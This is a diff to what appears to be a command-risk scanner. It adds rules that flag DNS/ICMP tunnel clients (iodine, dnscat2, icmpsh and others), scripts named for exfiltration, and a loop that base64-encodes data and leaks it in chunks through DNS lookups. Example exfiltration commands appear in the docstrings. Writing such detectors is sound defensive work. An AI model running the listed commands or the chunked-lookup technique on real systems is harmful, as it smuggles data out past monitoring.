@@ -169,3 +169,49 @@ def rule_mail_attachment(c: Ctx) -> Optional[tuple]:
         if _socket_fed([seg]) == "bulk" or any(_SYSTEM_FILE.match(w.raw.strip("'\"")) for w in seg.words[1:]):
             return MEDIUM, f"mails the system's own files, fed to it, to another machine ({c.text})"
     return None
+
+
+# Tunnel clients that carry a connection inside DNS names or ICMP packets, and tools named for sending data out.
+_TUNNELS = frozenset({"iodine", "dnscat", "dnscat2", "dnscat2-client", "dns2tcpc", "dnstt-client", "ptunnel",
+                      "ptunnel-ng", "icmptunnel", "hans", "icmpsh", "icmpsh_m", "pingtunnel", "dnstunnel", "tuns",
+                      "slipstream-client", "godoh"})
+
+
+_SCRIPT_RUNNER = lazy(r"^(python[\d.]*|py|perl|ruby|node|php|pwsh|powershell|bash|sh|zsh|import-module|ipmo|\.)$")
+
+
+@triggered_by(_TUNNELS, "exfil", otherwise=False)
+def may_tunnel(c: Ctx) -> bool:
+    prog = c.prog.lower().removesuffix(".exe")
+    return bool(c.texts) and (prog in _TUNNELS or "exfil" in prog or _SCRIPT_RUNNER.match(prog) is not None and any(
+        "exfil" in t.lower() and not t.startswith("-") for t in c.texts[:1]))
+
+
+def rule_tunnel(c: Ctx) -> Optional[tuple]:
+    """``iodine -f -P x 203.0.113.5 t.example.com``, ``dnscat2 --dns domain=x``, ``Invoke-DNSExfiltrator -i F -d D``,
+    ``python3 dnsexfil.py -f F``: whatever passes through goes out hidden in lookups or pings."""
+    prog = c.prog.lower().removesuffix(".exe")
+    if prog in _TUNNELS:
+        return MEDIUM, f"tunnels traffic out hidden in DNS lookups or pings ({c.text})"
+    return MEDIUM, f"runs a tool named for sending data out ({c.text})"
+
+
+_LOOP_WORDS = ("foreach", "ForEach", "for ", "while ", "% {", "%{")
+
+
+def line_encoded_lookups(text: str, segs: list) -> Optional[tuple]:
+    """``$e = [Convert]::ToBase64String($b); foreach ($chunk in $e -split '(.{8})') { Resolve-DnsName ($chunk + '.' +
+    $d) }``: encoded data looked up piece by piece, the name built in a variable (``flows`` reads ``$l.x.example``)."""
+    if "$" not in text or not any(w in text for w in _LOOP_WORDS) or not any(
+            w in text for w in ("ase64", "ase32", "xxd", "hexdump", "od -")):
+        return None
+    if not ENCODER.search(text):
+        return None
+    for seg in segs:
+        texts = [w.text for w in seg.words]
+        if not texts or texts[0].lower().removesuffix(".exe") not in LOOKUPS:
+            continue
+        names = [t for k, t in enumerate(texts[1:], 1) if not t.startswith("-") or texts[k - 1].lower() == "-name"]
+        if any(t.startswith("$") for t in names):
+            return HIGH, f"sends encoded local data out piece by piece as DNS lookups ({' '.join(texts)[:60]})"
+    return None
